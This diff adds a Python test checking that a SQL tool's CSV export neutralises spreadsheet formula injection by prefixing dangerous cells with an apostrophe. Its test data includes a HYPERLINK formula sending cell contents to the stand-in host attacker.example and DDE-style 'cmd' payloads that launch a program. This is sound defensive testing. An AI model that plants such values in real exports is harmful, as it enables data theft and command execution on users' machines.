@@ -124,3 +124,31 @@ async def test_read_only_queries_sort_copy_csv_and_errors_in_place(generated: Pa
         await wait_until(pilot, lambda: bool(screen.history))
         await pilot.press("ctrl+up")
         assert screen.query_one(TextArea).text == "SELECT g FROM generate_series(1, 1500) g"
+
+
+# attack22e E27: rows an agent wrote that a spreadsheet would run as formulas
+FORMULAS = (
+    'SELECT v, -5 AS n FROM (VALUES (\'=HYPERLINK("http://attacker.example/?"&A1,"x")\'), '
+    "('@SUM(1+1)*cmd|'' /C calc''!A0'), ('+1+cmd|'' /C calc''!A0'), ('-2+3'), "
+    "(E'\\tTAB'), (E'\\rCR'), ('plain = text'), (NULL)) AS r(v)"
+)
+
+
+def test_the_csv_export_writes_formulas_as_text(generated: Path) -> None:
+    prompt = Engine(generated).prompt
+    result = prompt.run(FORMULAS)
+    assert result.rows[0][0].startswith("=HYPERLINK")
+    with prompt.export(result).open(newline="") as handle:
+        written = list(csv.reader(handle))
+    assert written[0] == ["v", "n"]
+    assert [r[0] for r in written[1:]] == [
+        '\'=HYPERLINK("http://attacker.example/?"&A1,"x")',
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'+1+cmd|' /C calc'!A0",
+        "'-2+3",
+        "'\tTAB",
+        "'\rCR",
+        "plain = text",
+        "",
+    ]
+    assert {r[1] for r in written[1:]} == {"-5"}  # a number stays a number
